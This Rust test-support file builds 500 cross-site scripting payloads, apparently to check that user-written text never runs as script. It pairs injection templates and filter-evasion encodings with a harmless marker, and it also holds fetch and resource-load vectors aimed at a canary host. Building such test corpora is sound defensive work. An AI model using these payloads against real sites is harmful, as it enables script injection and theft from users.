//! Texts that try to become more than text: what strangers write into every field that somebody
//! else sees. Each of them, if it ever runs, sets [`TRACE`] on the window it runs in; if it ever
//! loads something, it asks the canary's host.

/// The property of `window` that exists only where a payload was executed.
pub const TRACE: &str = "__executed";

/// How many there are.
pub const N_PAYLOADS: usize = 500;

/// Places where a browser could take text for something to run; `CODE` stands for what runs.
const TEMPLATES: [&str; 36] = [
    "<script>CODE</script>",
    "\"><script>CODE</script>",
    "'-CODE-'",
    "</title><script>CODE</script>",
    "</textarea><script>CODE</script>",
    "</style></script><script>CODE</script>",
    "<scr<script>ipt>CODE</scr</script>ipt>",
    "<img src=x onerror=CODE>",
    "<img/src='x'/onerror='CODE'>",
    "<IMG \"\"\"><img src=x onerror=\"CODE\">",
    "<svg onload=CODE>",
    "<svg><animate onbegin=CODE attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=CODE />#x\"/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror=CODE>\">",
    "<body onload=CODE>",
    "<details open ontoggle=CODE>",
    "<input autofocus onfocus=CODE>",
    "<video><source onerror=CODE></video>",
    "<iframe srcdoc=\"<script>CODE</script>\"></iframe>",
    "<iframe src=\"javascript:CODE\"></iframe>",
    "<object data=\"javascript:CODE\"></object>",
    "<form action=\"javascript:CODE\"><button>ok</button></form>",
    "<a href=\"javascript:CODE\">ok</a>",
    "<style>@keyframes x{}</style><p style=\"animation-name:x\" onanimationstart=\"CODE\"></p>",
    "{{constructor.constructor('CODE')()}}",
    "javascript:CODE",
    "javascript://a.example/%0aCODE",
    "https://a.example/\"onmouseover=\"CODE",
    "www.a.example/'onclick='CODE",
    "[ok](javascript:CODE)",
    "[ok](JaVaScRiPt:CODE)",
    "[ok](data:text/html,<script>CODE</script>)",
    "[ok](https://a.example/\"onfocus=CODE autofocus=\")",
    "![ok](x\"onerror=\"CODE)",
    "**<img src=x onerror=CODE>** `<img src=x onerror=CODE>`",
    "> - [<img src=x onerror=CODE>](https://a.example/<svg/onload=CODE>)",
];

/// The same deed, written so that a filter might not know it again.
const CODES: [&str; 12] = [
    "top.__executed=1",
    "window['__executed']=1",
    "self[`__executed`]=1",
    "alert(window.__executed=1)",
    "fetch('//canary.example/'+(window.__executed=1))",
    "globalThis['__exe'+'cuted']=1",
    "eval('window.__executed=1')",
    "Function('window.__executed=1')()",
    "setTimeout('window.__executed=1')",
    "eval(atob('d2luZG93Ll9fZXhlY3V0ZWQ9MQ=='))",
    "window&#46;__executed&#61;1",
    "java\tscript:window.\\u005f_executed\n=1",
];

/// Places from which a browser fetches without any script; `URL` stands for what is fetched.
const REACHING: [&str; 17] = [
    "<img src=\"URL\">",
    "<img srcset=\"URL 2x\">",
    "<link rel=stylesheet href=\"URL\">",
    "<link rel=prefetch href=\"URL\">",
    "<style>@import 'URL';</style>",
    "<p style=\"background:url(URL)\">",
    "<iframe src=\"URL\"></iframe>",
    "<script src=\"URL\"></script>",
    "<meta http-equiv=refresh content=\"0;url=URL\">",
    "<base href=\"URL\">",
    "<video poster=\"URL\"></video>",
    "<audio src=\"URL\" autoplay>",
    "<object data=\"URL\"></object>",
    "<svg><image href=\"URL\"/></svg>",
    "<body background=\"URL\">",
    "<input type=image src=\"URL\">",
    "![](URL)",
];

/// Ways to write the canary's address.
const ADDRESSES: [&str; 4] =
    ["//canary.example/x", "https://canary.example/x", "http://canary.example/x", "\\\\canary.example\\x"];

/// All payloads, each different, always in the same order.
pub fn payloads() -> Vec<String> {
    let running =
        CODES.iter().flat_map(|code| TEMPLATES.iter().map(|template| template.replace("CODE", code)));
    let reaching =
        ADDRESSES.iter().flat_map(|address| REACHING.iter().map(|template| template.replace("URL", address)));
    running.chain(reaching).collect()
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    #[test]
    fn there_are_as_many_different_payloads_as_promised() {
        let all = payloads();
        assert_eq!((all.len(), all.iter().collect::<BTreeSet<_>>().len()), (N_PAYLOADS, N_PAYLOADS));
    }
}
